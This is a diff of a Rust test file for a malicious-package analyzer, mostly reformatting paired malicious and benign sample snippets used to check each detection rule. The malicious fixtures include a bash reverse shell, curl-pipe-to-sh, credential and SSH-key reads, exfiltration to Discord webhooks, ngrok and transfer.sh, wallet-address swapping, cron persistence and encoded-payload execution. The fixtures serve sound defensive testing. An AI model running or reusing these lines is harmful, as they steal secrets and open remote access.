@@ -2,6 +2,11 @@
 //! benign sample (a near miss, as legitimate packages write it) it must not; the rule table's
 //! invariants; the user's rule files.
 
+#![expect(
+    clippy::unwrap_used,
+    reason = "tests and their helpers: a panic is the failure report"
+)]
+
 use std::collections::BTreeSet;
 use std::path::PathBuf;
 
@@ -57,154 +62,296 @@ fn noise(length: usize, seed: u64) -> Vec<u8> {
 }
 
 fn char_codes(text: &str) -> String {
-    text.bytes().map(|byte| byte.to_string()).collect::<Vec<_>>().join(",")
+    text.bytes()
+        .map(|byte| byte.to_string())
+        .collect::<Vec<_>>()
+        .join(",")
 }
 
 fn samples() -> Vec<Sample> {
     vec![
         // Capabilities.
-        text("process-spawn", "run.js",
+        text(
+            "process-spawn",
+            "run.js",
             "const { execSync } = require('child_process');\nexecSync('ls');",
-            "const processes = require('./processes');\nprocesses.list();"),
-        text("network-access", "client.py",
+            "const processes = require('./processes');\nprocesses.list();",
+        ),
+        text(
+            "network-access",
+            "client.py",
             "import requests\nrequests.post(url, json=payload)",
-            "import json\nrequests_made = 0  # counts calls to our cache"),
-        text("file-download", "install.sh",
+            "import json\nrequests_made = 0  # counts calls to our cache",
+        ),
+        text(
+            "file-download",
+            "install.sh",
             "curl -fsSL https://downloads.example.invalid/tool.tgz -o /opt/tool.tgz",
-            "echo 'download the tool from the website'"),
-        text("make-executable", "setup.sh",
+            "echo 'download the tool from the website'",
+        ),
+        text(
+            "make-executable",
+            "setup.sh",
             "chmod +x ./bin/tool && ./bin/tool",
-            "chmod 644 README.md"),
-        text("temp-staging", "drop.js",
+            "chmod 644 README.md",
+        ),
+        text(
+            "temp-staging",
+            "drop.js",
             "const target = require('path').join(os.tmpdir(), 'x');",
-            "const target = require('path').join(process.cwd(), 'build');"),
-        text("env-harvest", "collect.js",
+            "const target = require('path').join(process.cwd(), 'build');",
+        ),
+        text(
+            "env-harvest",
+            "collect.js",
             "const data = JSON.stringify(process.env);",
-            "const mode = JSON.stringify(process.env.NODE_ENV);"),
-        text("env-secrets", "release.js",
+            "const mode = JSON.stringify(process.env.NODE_ENV);",
+        ),
+        text(
+            "env-secrets",
+            "release.js",
             "const tokens = [process.env.NPM_TOKEN, process.env.GITHUB_TOKEN];",
-            "const token = process.env.GITHUB_TOKEN; // one service, our own"),
-        text("ci-environment-check", "lib.rs",
+            "const token = process.env.GITHUB_TOKEN; // one service, our own",
+        ),
+        text(
+            "ci-environment-check",
+            "lib.rs",
             "if std::env::var(\"GITLAB_CI\").is_ok() { run(); }",
-            "if std::env::var(\"HOME\").is_ok() { run(); }"),
-        text("dynamic-code", "loader.js",
+            "if std::env::var(\"HOME\").is_ok() { run(); }",
+        ),
+        text(
+            "dynamic-code",
+            "loader.js",
             "const result = eval(source);",
-            "const result = evaluate(source); const matched = pattern.exec(text);"),
-        text("decode-data", "util.py",
+            "const result = evaluate(source); const matched = pattern.exec(text);",
+        ),
+        text(
+            "decode-data",
+            "util.py",
             "import base64\nraw = base64.b64decode(blob)",
-            "import base64\nencoded = base64.b64encode(raw)"),
+            "import base64\nencoded = base64.b64encode(raw)",
+        ),
         // Threats.
-        text("exfil-chat-webhook", "send.js",
+        text(
+            "exfil-chat-webhook",
+            "send.js",
             "fetch('https://discord.com/api/webhooks/000000000000000000/FAKEtokenFAKEtokenFAKEtokenFAKEtokenFAKEtokenFAKEtokenFAKEtoken000', {method: 'POST'})",
-            "const url = `https://discord.com/api/webhooks/${id}/${token}`;"),
-        text("exfil-oast-host", "probe.py",
+            "const url = `https://discord.com/api/webhooks/${id}/${token}`;",
+        ),
+        text(
+            "exfil-oast-host",
+            "probe.py",
             "requests.get('https://c0ffee.oast.fun/' + hostname)",
-            "# see https://docs.example.com/oast-testing for out-of-band testing"),
-        text("exfil-tunnel-host", "send.js",
+            "# see https://docs.example.com/oast-testing for out-of-band testing",
+        ),
+        text(
+            "exfil-tunnel-host",
+            "send.js",
             "fetch('https://abcd-203-0-113-7.ngrok-free.app/collect', {method: 'POST', body})",
-            "// run `npx ngrok http 3000` to expose the dev server"),
-        text("exfil-paste-site", "up.sh",
+            "// run `npx ngrok http 3000` to expose the dev server",
+        ),
+        text(
+            "exfil-paste-site",
+            "up.sh",
             "curl --upload-file ./dump.txt https://transfer.sh/dump.txt",
-            "echo 'paste the output into the issue'"),
-        text("credential-store-read", "keys.js",
+            "echo 'paste the output into the issue'",
+        ),
+        text(
+            "credential-store-read",
+            "keys.js",
             "const key = fs.readFileSync(path.join(os.homedir(), '.ssh/id_rsa'));",
-            "const key = fs.readFileSync(path.join(__dirname, 'fixtures/test-key.pem'));"),
-        text("credential-store-harvest", "steal.py",
+            "const key = fs.readFileSync(path.join(__dirname, 'fixtures/test-key.pem'));",
+        ),
+        text(
+            "credential-store-harvest",
+            "steal.py",
             "paths = ['~/.ssh/id_rsa', '~/.aws/credentials', '~/.npmrc', '~/.kube/config']",
-            "paths = ['~/.aws/credentials', '~/.aws/config']"),
-        text("wallet-target", "grab.js",
+            "paths = ['~/.aws/credentials', '~/.aws/config']",
+        ),
+        text(
+            "wallet-target",
+            "grab.js",
             "const ext = 'Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn';",
-            "const ext = 'Local Extension Settings/' + extensionId;"),
-        text("wallet-address-swap", "hook.js",
+            "const ext = 'Local Extension Settings/' + extensionId;",
+        ),
+        text(
+            "wallet-address-swap",
+            "hook.js",
             "const eth = /0x[a-fA-F0-9]{40}/g; const sol = /[1-9A-HJ-NP-Za-km-z]{32,44}/g; body = body.replace(eth, mine);",
-            "const isAddress = (value) => /^0x[a-fA-F0-9]{40}$/.test(value);"),
-        text("wallet-key-scan", "scan.rs",
+            "const isAddress = (value) => /^0x[a-fA-F0-9]{40}$/.test(value);",
+        ),
+        text(
+            "wallet-key-scan",
+            "scan.rs",
             "let solana = Regex::new(r\"[1-9A-HJ-NP-Za-km-z]{87,88}\").unwrap();",
-            "let address = Regex::new(r\"^[1-9A-HJ-NP-Za-km-z]{32,44}$\").unwrap();"),
-        text("browser-profile-theft", "steal.py",
+            "let address = Regex::new(r\"^[1-9A-HJ-NP-Za-km-z]{32,44}$\").unwrap();",
+        ),
+        text(
+            "browser-profile-theft",
+            "steal.py",
             "db = os.path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\ndb = local + '/Google/Chrome/User Data/Default/Login Data'",
-            "profile = os.path.join(local, 'Google', 'Chrome', 'User Data')  # for --user-data-dir"),
-        text("crypto-miner", "run.sh",
+            "profile = os.path.join(local, 'Google', 'Chrome', 'User Data')  # for --user-data-dir",
+        ),
+        text(
+            "crypto-miner",
+            "run.sh",
             "./worker -o stratum+tcp://pool.example.invalid:3333 -u wallet",
-            "./worker --threads 4 --queue jobs"),
-        text("reverse-shell", "x.sh",
+            "./worker --threads 4 --queue jobs",
+        ),
+        text(
+            "reverse-shell",
+            "x.sh",
             "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
-            "bash -c 'echo ready' > /dev/null 2>&1"),
-        text("persistence", "install.sh",
+            "bash -c 'echo ready' > /dev/null 2>&1",
+        ),
+        text(
+            "persistence",
+            "install.sh",
             "(crontab -l; echo '*/5 * * * * ~/.x') | crontab -",
-            "echo 'add the line to your crontab yourself'"),
-        text("npm-self-propagation", "worm.js",
+            "echo 'add the line to your crontab yourself'",
+        ),
+        text(
+            "npm-self-propagation",
+            "worm.js",
             "const list = await get(`/-/v1/search?text=maintainer:${user}`); for (const p of list) exec('npm publish');",
-            "// release: run `npm publish` after the tests pass"),
-        text("ci-workflow-injection", "worm.js",
+            "// release: run `npm publish` after the tests pass",
+        ),
+        text(
+            "ci-workflow-injection",
+            "worm.js",
             "put(`https://api.github.com/repos/${repo}/contents/.github/workflows/x.yml`, {headers: {Authorization: `token ${process.env.GITHUB_TOKEN}`}})",
-            "fs.writeFileSync('.github/workflows/ci.yml', template); // scaffold a new project"),
-        text("secret-scanner", "scan.js",
+            "fs.writeFileSync('.github/workflows/ci.yml', template); // scaffold a new project",
+        ),
+        text(
+            "secret-scanner",
+            "scan.js",
             "execSync('trufflehog filesystem / --json')",
-            "// credentials are never logged; see trufflehog's docs for scanning your own repo"),
-        text("github-exfil-repo", "leak.js",
+            "// credentials are never logged; see trufflehog's docs for scanning your own repo",
+        ),
+        text(
+            "github-exfil-repo",
+            "leak.js",
             "await fetch('https://api.github.com/user/repos', {method: 'POST', headers: {Authorization: `token ${t}`}, body}); content: Buffer.from(data).toString('base64')",
-            "await fetch('https://api.github.com/user', {headers: {Authorization: `token ${t}`}})"),
-        text("browser-request-hook", "hook.js",
+            "await fetch('https://api.github.com/user', {headers: {Authorization: `token ${t}`}})",
+        ),
+        text(
+            "browser-request-hook",
+            "hook.js",
             "const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { return send.call(this, body); };",
-            "if (XMLHttpRequest.prototype.send === original) { report(); }"),
-        text("decode-and-execute", "hook.py",
+            "if (XMLHttpRequest.prototype.send === original) { report(); }",
+        ),
+        text(
+            "decode-and-execute",
+            "hook.py",
             "import base64\nexec(base64.b64decode(PAYLOAD))",
-            "import base64\ndata = base64.b64decode(PAYLOAD)\nprint(data)"),
-        text("remote-script-execution", "postinstall.sh",
+            "import base64\ndata = base64.b64decode(PAYLOAD)\nprint(data)",
+        ),
+        text(
+            "remote-script-execution",
+            "postinstall.sh",
             "curl -fsSL https://get.example.invalid/install.sh | sh",
-            "curl -fsSL https://get.example.invalid/install.sh -o install.sh && less install.sh"),
-        text("windows-lolbin", "run.bat",
+            "curl -fsSL https://get.example.invalid/install.sh -o install.sh && less install.sh",
+        ),
+        text(
+            "windows-lolbin",
+            "run.bat",
             "regsvr32.exe -s create.dll",
-            "echo register the DLL with regsvr32 as an administrator"),
-        text("host-fingerprint", "probe.js",
+            "echo register the DLL with regsvr32 as an administrator",
+        ),
+        text(
+            "host-fingerprint",
+            "probe.js",
             "const info = { user: os.userInfo().username, host: os.hostname(), nets: os.networkInterfaces() };",
-            "const host = os.hostname();"),
+            "const host = os.hostname();",
+        ),
         // Obfuscation.
-        text("js-string-array-rotation", "index.js",
+        text(
+            "js-string-array-rotation",
+            "index.js",
             "while(!![]){try{if(x===y)break;else a['push'](a['shift']());}catch(e){a['push'](a['shift']());}}",
-            "queue.push(queue.shift());"),
-        text("pyarmor", "__init__.py",
+            "queue.push(queue.shift());",
+        ),
+        text(
+            "pyarmor",
+            "__init__.py",
             "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'PYARMOR')",
-            "# obfuscation is not used in this package"),
-        text("python-code-object-loader", "x.py",
+            "# obfuscation is not used in this package",
+        ),
+        text(
+            "python-code-object-loader",
+            "x.py",
             "import marshal\nexec(marshal.loads(b'\\xe3\\x00'))",
-            "import marshal\ndata = marshal.dumps(obj)"),
-        text("js-hex-escaped-strings", "x.js",
+            "import marshal\ndata = marshal.dumps(obj)",
+        ),
+        text(
+            "js-hex-escaped-strings",
+            "x.js",
             &"var a = ['\\x72\\x65\\x71\\x75\\x69\\x72\\x65'];\n".repeat(8),
-            "var newline = '\\x0a';"),
+            "var newline = '\\x0a';",
+        ),
         // Entry points seen in a file.
-        text("python-setup-command-override", "setup.py",
+        text(
+            "python-setup-command-override",
+            "setup.py",
             "from setuptools.command.install import install\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\nsetup(cmdclass={'install': PostInstall})",
-            "from setuptools import setup\nsetup(name='x', cmdclass={'build_docs': BuildDocs})"),
+            "from setuptools import setup\nsetup(name='x', cmdclass={'build_docs': BuildDocs})",
+        ),
         // Rust analysers.
         Sample {
             rule: "encoded-blob",
             path: "x.js",
             malicious: format!("var p = '{}';", base64(&noise(600, 1))).into_bytes(),
-            benign: format!("var f = 'url(data:font/woff2;base64,{})';", base64(&noise(600, 1))).into_bytes(),
+            benign: format!(
+                "var f = 'url(data:font/woff2;base64,{})';",
+                base64(&noise(600, 1))
+            )
+            .into_bytes(),
         },
         Sample {
             rule: "embedded-executable",
             path: "x.py",
             malicious: format!("BIN = '{}'", base64(&elf(&noise(400, 2)))).into_bytes(),
-            benign: format!("PNG = '{}'", base64(&[b"\x89PNG\r\n\x1a\n".as_slice(), &noise(400, 2)].concat())).into_bytes(),
+            benign: format!(
+                "PNG = '{}'",
+                base64(&[b"\x89PNG\r\n\x1a\n".as_slice(), &noise(400, 2)].concat())
+            )
+            .into_bytes(),
         },
-        text("encoded-api-names", "x.js",
+        text(
+            "encoded-api-names",
+            "x.js",
             "var n = ['6368696c645f70726f63657373', '65786563'];",
-            "var colours = ['ff0000', '00ff00', 'c0ffee'];"),
+            "var colours = ['ff0000', '00ff00', 'c0ffee'];",
+        ),
         Sample {
             rule: "char-code-array",
             path: "x.js",
-            malicious: format!("var u = String.fromCharCode({});", char_codes("https://exfil.example.invalid/collect")).into_bytes(),
-            benign: format!("var table = [{}];", (0..40).map(|n| (n % 16).to_string()).collect::<Vec<_>>().join(",")).into_bytes(),
+            malicious: format!(
+                "var u = String.fromCharCode({});",
+                char_codes("https://exfil.example.invalid/collect")
+            )
+            .into_bytes(),
+            benign: format!(
+                "var table = [{}];",
+                (0..40)
+                    .map(|n| (n % 16).to_string())
+                    .collect::<Vec<_>>()
+                    .join(",")
+            )
+            .into_bytes(),
         },
-        text("obfuscator-identifiers", "x.js",
+        text(
+            "obfuscator-identifiers",
+            "x.js",
             "var _0x1a2b=1,_0x2b3c=2,_0x3c4d=3,_0x4d5e=4,_0x5e6f=5,_0x6f70=6,_0x7081=7,_0x8192=8,_0x92a3=9,_0xa3b4=10;",
-            "var mask = 0x1a2b, flags = 0x2b3c; var _private = 1;"),
-        text("raw-ip-url", "x.sh",
+            "var mask = 0x1a2b, flags = 0x2b3c; var _private = 1;",
+        ),
+        text(
+            "raw-ip-url",
+            "x.sh",
             "wget http://203.0.113.7/payload",
-            "curl http://127.0.0.1:8080/health && curl http://10.0.0.2/"),
+            "curl http://127.0.0.1:8080/health && curl http://10.0.0.2/",
+        ),
         Sample {
             rule: "native-executable",
             path: "bin/tool",
@@ -241,7 +388,10 @@ fn every_rule_matches_its_malicious_sample_and_not_its_benign_one() {
     for sample in samples() {
         let malicious = rule_ids(&analyzer, sample.path, &sample.malicious);
         if !malicious.contains(sample.rule) {
-            failures.push(format!("{}: malicious sample not matched (got {malicious:?})", sample.rule));
+            failures.push(format!(
+                "{}: malicious sample not matched (got {malicious:?})",
+                sample.rule
+            ));
         }
         let benign = rule_ids(&analyzer, sample.path, &sample.benign);
         if benign.contains(sample.rule) {
@@ -282,8 +432,16 @@ fn package_rule_ids(ecosystem: Ecosystem, files: &[(&str, &[u8])]) -> BTreeSet<S
         .collect()
 }
 
+/// (rule, ecosystem, malicious package, benign package), each package as (path, bytes).
+type PackageSample = (
+    &'static str,
+    Ecosystem,
+    Vec<(&'static str, Vec<u8>)>,
+    Vec<(&'static str, Vec<u8>)>,
+);
+
 /// The rules about a package as a whole (manifests, entry points, what runs unasked).
-fn package_samples() -> Vec<(&'static str, Ecosystem, Vec<(&'static str, Vec<u8>)>, Vec<(&'static str, Vec<u8>)>)> {
+fn package_samples() -> Vec<PackageSample> {
     let minified = format!("{}\n", "var a=require('./b');a.c(1,2,3);".repeat(200));
     vec![
         (
@@ -355,7 +513,10 @@ fn package_samples() -> Vec<(&'static str, Ecosystem, Vec<(&'static str, Vec<u8>
 fn every_package_rule_matches_its_malicious_sample_and_not_its_benign_one() {
     for (rule, ecosystem, malicious, benign) in package_samples() {
         fn borrow<'a>(files: &'a [(&'static str, Vec<u8>)]) -> Vec<(&'static str, &'a [u8])> {
-            files.iter().map(|(path, data)| (*path, data.as_slice())).collect()
+            files
+                .iter()
+                .map(|(path, data)| (*path, data.as_slice()))
+                .collect()
         }
         assert!(
             package_rule_ids(ecosystem, &borrow(&malicious)).contains(rule),
@@ -377,21 +538,34 @@ fn every_rule_has_samples_and_a_unique_kebab_case_id() {
     for rule in analyzer.rules() {
         assert!(ids.insert(rule.id.as_str()), "duplicate id {}", rule.id);
         assert!(
-            rule.id
-                .split('-')
-                .all(|word| !word.is_empty() && word.bytes().all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit())),
+            rule.id.split('-').all(|word| !word.is_empty()
+                && word
+                    .bytes()
+                    .all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit())),
             "{} is not kebab-case",
             rule.id
         );
         assert!(!rule.description.is_empty());
         assert!(rule.signal.is_some(), "{} has no signal", rule.id);
-        assert!(sampled.contains(rule.id.as_str()), "{} has no samples", rule.id);
-        assert!(matches!(rule.origin, RuleOrigin::Bundled | RuleOrigin::Builtin));
+        assert!(
+            sampled.contains(rule.id.as_str()),
+            "{} has no samples",
+            rule.id
+        );
+        assert!(matches!(
+            rule.origin,
+            RuleOrigin::Bundled | RuleOrigin::Builtin
+        ));
     }
     let unknown: Vec<&&str> = sampled.iter().filter(|id| !ids.contains(**id)).collect();
     assert!(unknown.is_empty(), "samples of unknown rules: {unknown:?}");
     for category in Category::ALL {
-        assert!(analyzer.rules().iter().any(|rule| rule.category == category));
+        assert!(
+            analyzer
+                .rules()
+                .iter()
+                .any(|rule| rule.category == category)
+        );
     }
 }
 
@@ -422,14 +596,23 @@ rule internal_host {
     );
     let analyzer = Analyzer::new(&[path]).unwrap();
     assert!(analyzer.user_rules_digest().is_some());
-    assert!(analyzer.rules().iter().any(|rule| rule.id == "internal-host"));
+    assert!(
+        analyzer
+            .rules()
+            .iter()
+            .any(|rule| rule.id == "internal-host")
+    );
     let archive = package(&[
         ("package.json", br#"{"main":"index.js"}"#),
         ("index.js", b"fetch('https://build.corp.example.invalid/')"),
     ]);
     let verdict = analyzer.analyze(&archive, Ecosystem::Npm);
     assert_eq!(verdict.level, Level::Malicious, "{:#?}", verdict);
-    let hit = verdict.hits.iter().find(|hit| hit.rule_id == "internal-host").unwrap();
+    let hit = verdict
+        .hits
+        .iter()
+        .find(|hit| hit.rule_id == "internal-host")
+        .unwrap();
     assert_eq!(hit.reachable_from, Some(EntryKind::Import));
     assert_eq!(hit.signal, None);
 }
@@ -442,7 +625,9 @@ fn a_user_rule_that_does_not_compile_names_its_file_and_line() {
     );
     let error = Analyzer::new(std::slice::from_ref(&path)).unwrap_err();
     match &error {
-        InspectError::RuleCompile { path: shown, line, .. } => {
+        InspectError::RuleCompile {
+            path: shown, line, ..
+        } => {
             assert_eq!(shown, &path);
             assert_eq!(*line, 5);
         }
@@ -467,13 +652,20 @@ fn a_user_rule_with_bad_meta_is_refused() {
         "rule clash {\n  meta:\n    id = \"crypto-miner\"\n    description = \"x\"\n    category = \"threat\"\n    severity = \"low\"\n  condition:\n    false\n}\n",
     );
     let error = Analyzer::new(&[path]).unwrap_err();
-    assert!(matches!(error, InspectError::DuplicateRuleId { .. }), "{error:?}");
+    assert!(
+        matches!(error, InspectError::DuplicateRuleId { .. }),
+        "{error:?}"
+    );
 }
 
 #[test]
 fn a_rule_directory_is_read_in_name_order() {
     let directory = tempfile::tempdir().unwrap();
-    for (name, id) in [("b.yar", "second-rule"), ("a.yara", "first-rule"), ("notes.txt", "ignored")] {
+    for (name, id) in [
+        ("b.yar", "second-rule"),
+        ("a.yara", "first-rule"),
+        ("notes.txt", "ignored"),
+    ] {
         std::fs::write(
             directory.path().join(name),
             format!("rule r {{\n  meta:\n    id = \"{id}\"\n    description = \"x\"\n    category = \"capability\"\n    severity = \"low\"\n  condition:\n    false\n}}\n"),
@@ -490,4 +682,10 @@ fn a_rule_directory_is_read_in_name_order() {
     assert_eq!(user, ["first-rule", "second-rule"]);
     let missing = Analyzer::new(&[directory.path().join("missing.yar")]).unwrap_err();
     assert!(matches!(missing, InspectError::RuleRead { .. }));
+}
+
+#[test]
+fn an_analyzer_is_shared_between_threads() {
+    fn shareable<T: Send + Sync>() {}
+    shareable::<Analyzer>();
 }
